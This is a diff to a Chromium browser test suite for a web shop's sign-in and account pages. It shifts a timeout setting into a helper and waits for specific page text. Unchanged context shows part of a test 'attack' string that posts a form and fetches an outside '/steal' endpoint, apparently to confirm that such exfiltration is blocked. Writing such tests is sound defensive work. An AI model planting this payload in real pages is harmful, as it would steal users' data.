@@ -4,6 +4,7 @@ import { type Browser, type BrowserContext, chromium, type Page } from 'playwrig
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
 import { seededUsers } from '../local/identity/seed.ts';
 import { choosePorts } from '../local/ports.ts';
+import { patient } from './support/browser.ts';
 import { haveProgram } from './support/debian.ts';
 import { freePort } from './support/free-port.ts';
 import { openTestShop, type TestShop } from './support/shop.ts';
@@ -27,9 +28,6 @@ const attack = `{
   add('form', { action: elsewhere, method: 'post' }).submit();
   void fetch(elsewhere + '/steal').catch(() => undefined);
 }`;
-
-/** A busy machine takes its time; what is waited for is a condition. */
-const patient = { timeout: 30_000 };
 
 describe.skipIf(!haveProgram('chromium'))('in Chromium', () => {
   let shop: TestShop;
@@ -88,9 +86,15 @@ describe.skipIf(!haveProgram('chromium'))('in Chromium', () => {
 
   test('a shopper signs in at the provider, sees orders and addresses, and signs out, and nothing is blocked', async () => {
     await signIn();
-    for (const path of ['/orders', '/profile', '/basket', '/checkout?step=delivery']) {
+    for (const [path, text] of [
+      ['/orders', 'No orders yet'],
+      ['/profile', 'No address is saved yet.'],
+      ['/profile', 'Change name, e-mail or password'],
+      ['/basket', 'Your basket is empty'],
+      ['/checkout?step=delivery', 'Your basket is empty'],
+    ] as const) {
       await page.goto(shop.gateway + path);
-      await page.waitForLoadState('networkidle');
+      await page.getByText(text).waitFor();
     }
     await page.getByRole('button', { name: /^Account of/ }).click();
     await page.getByRole('button', { name: 'Sign out' }).click();
